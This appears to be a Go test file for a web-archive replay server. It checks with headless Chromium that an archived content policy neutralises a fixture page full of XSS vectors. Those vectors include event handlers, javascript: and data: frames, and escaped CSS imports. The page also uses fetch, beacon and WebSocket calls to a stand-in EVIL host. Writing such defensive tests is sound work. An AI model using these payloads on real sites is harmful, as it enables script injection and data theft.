package replay

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"strings"
	"sync"
	"testing"
	"time"

	"gongkai/internal/needed"
)

// hostile is a page that tries to run scripts and to reach EVIL in every way
// that we know of.
const hostile = `<!doctype html><html manifest="EVIL/manifest"><head><title>quiet</title>
<base href="EVIL/base/">
<meta http-equiv="refresh" content="1;url=EVIL/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline' 'unsafe-eval'">
<meta http-equiv="set-cookie" content="a=b"><meta name="referrer" content="unsafe-url">
<link rel="preconnect" href="EVIL/"><link rel="dns-prefetch" href="EVIL/"><link rel="prefetch" href="EVIL/prefetch">
<link rel="preload" as="script" href="EVIL/preload"><link rel="modulepreload" href="EVIL/module"><link rel="prerender" href="EVIL/prerender">
<link rel="stylesheet" href="EVIL/style.css"><link rel="icon" href="EVIL/icon"><link rel="manifest" href="EVIL/web.manifest">
<style>@import "EVIL/import.css"; @import url(EVIL/import2.css); @\69mport "EVIL/escaped.css";
@font-face { font-family: f; src: url(EVIL/font.woff) } body { font-family: f; background: url(EVIL/background.png); cursor: url(EVIL/cursor), auto }
p { background: \75rl(EVIL/escaped.png) } li { list-style-image: url(EVIL/list.png) } p::after { content: url(EVIL/content.png) }</style>
<script>document.title = "PWNED inline"; fetch("EVIL/fetch"); new Image().src = "EVIL/beacon"; navigator.sendBeacon("EVIL/send"); new WebSocket("EVIL/".replace("http", "ws"))</script>
<script src="EVIL/script.js"></script><script type="module">document.title = "PWNED module"; import("EVIL/import.js")</script>
<script type="speculationrules">{"prerender":[{"urls":["EVIL/speculation"]}]}</script>
</head><body onload="document.title='PWNED onload'" background="EVIL/body.png">
<p>安静的页面 a quiet page</p><ul><li>a</li></ul>
<img src="EVIL/image.png" srcset="EVIL/set.png 2x" onerror="document.title='PWNED onerror'"><img src=x onerror=document.title="'PWNED'">
<picture><source srcset="EVIL/source.png"><img src="EVIL/picture.png"></picture>
<svg onload="document.title='PWNED svg'"><script>document.title = "PWNED svg script"</script><image href="EVIL/svg.png"/><use href="EVIL/use.svg#a"/><animate onbegin="document.title='PWNED'" attributeName="x" dur="1s"/><foreignObject><iframe src="EVIL/foreign"></iframe></foreignObject></svg>
<math><mtext><style><img src="EVIL/math" onerror="document.title='PWNED math'"></style></mtext></math>
<iframe src="EVIL/frame"></iframe><iframe srcdoc="<script>parent.document.title='PWNED srcdoc'</script><img src=EVIL/srcdoc>"></iframe>
<iframe src="javascript:parent.document.title='PWNED frame'"></iframe><iframe src="data:text/html,<script>fetch('EVIL/dataframe')</script><img src=EVIL/dataimage>"></iframe>
<object data="EVIL/object"></object><object data="data:text/html,<script>top.document.title='PWNED object'</script>"></object><embed src="EVIL/embed"><applet archive="EVIL/applet" code="x"></applet>
<video src="EVIL/video" poster="EVIL/poster" autoplay onerror="document.title='PWNED video'"></video><audio src="EVIL/audio" autoplay></audio><track src="EVIL/track">
<form id="f" action="EVIL/form" method="get"><input name="q" autofocus onfocus="document.title='PWNED focus'"><input type="image" src="EVIL/inputimage"></form>
<details open ontoggle="document.title='PWNED toggle'"><summary>x</summary></details><marquee onstart="document.title='PWNED marquee'">x</marquee>
<a id="j" href="javascript:document.title='PWNED link'" ping="EVIL/ping">link</a>
<noscript><img src="EVIL/noscript.png"></noscript>
<table background="EVIL/table.png"><tr><td background="EVIL/cell.png">x</td></tr></table>
<isindex action="EVIL/isindex"><keygen><portal src="EVIL/portal"></portal><fencedframe src="EVIL/fenced"></fencedframe>
</body></html>`

// evil counts what reaches a server that nothing may reach.
type evil struct {
	mu   sync.Mutex
	seen []string
}

func (e *evil) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.seen = append(e.seen, r.Method+" "+r.RequestURI)
	w.Header().Set("Access-Control-Allow-Origin", "*")
	fmt.Fprint(w, `document.title="PWNED from elsewhere"`)
}

func (e *evil) reached() []string {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.seen
}

// listen serves h until the test ends, and returns its address.
func listen(t *testing.T, address string, h http.Handler) string {
	t.Helper()
	ln, err := net.Listen("tcp", address)
	if err != nil {
		t.Fatal(err)
	}
	s := &http.Server{Handler: h}
	go func() { _ = s.Serve(ln) }()
	t.Cleanup(func() { s.Close() })
	return ln.Addr().String()
}

// browse opens a page in Chromium, gives it time for what it does by itself, and
// returns what has become of it.
func browse(t *testing.T, url string) string {
	t.Helper()
	profile, err := os.MkdirTemp("", "replay-browser-")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(profile) // as far as processes that are still ending let it
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	out, err := exec.CommandContext(ctx, "chromium", "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--no-first-run",
		"--user-data-dir="+profile, "--virtual-time-budget=4000", "--dump-dom", url).Output()
	if err != nil {
		t.Fatalf("chromium %s: %v", url, err)
	}
	return string(out)
}

func TestAHostilePageRunsNothingAndReachesNobody(t *testing.T) {
	needed.Program(t, "chromium")
	e := &evil{}
	there := "http://" + listen(t, "127.0.0.2:0", e)
	page := strings.ReplaceAll(hostile, "EVIL", there)
	m := &memory{}
	m.add(home, noon, 200, map[string]string{"Content-Type": "text/html", "Refresh": "1; url=" + there + "/header", "Link": "<" + there + "/link>; rel=preload; as=image"}, page)
	policy := http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Security-Policy", archivedPolicy)
		w.Header().Set("X-DNS-Prefetch-Control", "off")
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, page)
	})
	for name, url := range map[string]string{
		"as it is shown":                      "http://" + listen(t, "127.0.0.1:0", server(m)) + "/web/20260331163000/" + home,
		"as it is, under the policy alone":    "http://" + listen(t, "127.0.0.1:0", policy) + "/",
		"as a frame of another archived page": "http://" + listen(t, "127.0.0.1:0", server(m)) + "/web/20260331163000if_/" + home,
	} {
		t.Run(name, func(t *testing.T) {
			dom := browse(t, url)
			if !strings.Contains(dom, "<title>quiet</title>") || !strings.Contains(dom, "安静的页面") {
				t.Errorf("the page has become\n%.3000s", dom)
			}
			if seen := e.reached(); len(seen) > 0 {
				t.Errorf("another host was asked for %q", seen)
			}
		})
	}
	t.Run("and would without the policy", func(t *testing.T) {
		open := http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			fmt.Fprint(w, page)
		})
		if dom := browse(t, "http://"+listen(t, "127.0.0.1:0", open)+"/"); !strings.Contains(dom, "PWNED") && len(e.reached()) == 0 {
			t.Errorf("nothing happened, so that this test shows nothing:\n%.1000s", dom)
		}
	})
}

func TestAPageIsShownWithItsImagesStylesAndFrames(t *testing.T) {
	needed.Program(t, "chromium")
	m := &memory{}
	html := map[string]string{"Content-Type": "text/html; charset=gb2312"}
	m.add(home, noon, 200, html, `<link rel=stylesheet href=/s.css><p>a<img src=/i.png><iframe src=/f.html></iframe><img data-src=/lazy.png>`)
	m.add(home+"s.css", noon.Add(time.Minute), 200, map[string]string{"Content-Type": "text/css"}, `@import "t.css"; p { background: url(b.png) } @font-face { font-family: f; src: url(f.woff) } p { font-family: f }`)
	m.add(home+"t.css", noon.Add(time.Hour), 200, map[string]string{"Content-Type": "text/css"}, `img { background: url(c.png) }`)
	m.add(home+"f.woff", noon, 200, nil, "no font")
	m.add(home+"f.html", noon, 200, html, `<p>in the frame<img src=/in.png>`)
	s := server(m)
	var mu sync.Mutex
	got := map[string]string{}
	address := listen(t, "127.0.0.1:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		_, url, _ := strings.Cut(r.RequestURI, "/"+home)
		got[url] = r.RequestURI
		mu.Unlock()
		s.ServeHTTP(w, r)
	}))
	browse(t, "http://"+address+"/web/20260331163000/"+home)
	mu.Lock()
	defer mu.Unlock()
	for _, url := range []string{"", "s.css", "t.css", "i.png", "b.png", "c.png", "f.woff", "f.html", "in.png", "lazy.png"} {
		if got[url] == "" {
			t.Errorf("%q was not asked for: %q", url, got)
		}
	}
}
